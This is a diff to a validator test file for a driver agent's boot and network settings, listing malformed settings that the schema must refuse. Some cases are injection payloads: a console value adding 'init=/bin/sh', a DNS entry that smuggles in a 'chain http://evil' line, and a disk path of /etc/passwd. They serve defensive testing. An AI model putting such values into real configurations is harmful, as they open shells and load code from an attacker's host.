@@ -49,11 +49,15 @@ describe("settings of the driver agent", () => {
     ["a misspelt field", { bootmode: "UEFI" }],
     ["a console with a second kernel argument", { console: "ttyS0 init=/bin/sh" }],
     ["an address without its prefix", { network: { ...NETWORK, address: "10.0.7.20" } }],
+    ["a gateway that is no address", { network: { ...NETWORK, gateway: "${shell}" } }],
+    ["a name server with a second line", { network: { ...NETWORK, dns: ["1.1.1.1\nchain http://evil"] } }],
+    ["a name server out of range", { network: { ...NETWORK, dns: ["1.1.1.300"] } }],
+    ["a disk of no size", { rootDisk: { minimumBytes: 2, maximumBytes: 1 } }],
     ["a MAC address without colons", { network: { ...NETWORK, mac: "52540000000a" } }],
     ["a disk path outside of /dev", { rootDisk: { path: "/etc/passwd" } }],
     ["a controller without a PCI address", { rootDisk: { controller: "HBA 1" } }],
     ["a boot that takes no time", { bootTimeoutSeconds: 0 }],
-  ])("settings of the driver agent with %s are refused", (_what, settings) => {
+  ])("settings of the driver agent with %s are refused [R-834]", (_what, settings) => {
     expect(agentSettings.safeParse(settings).success).toBe(false);
   });
 });
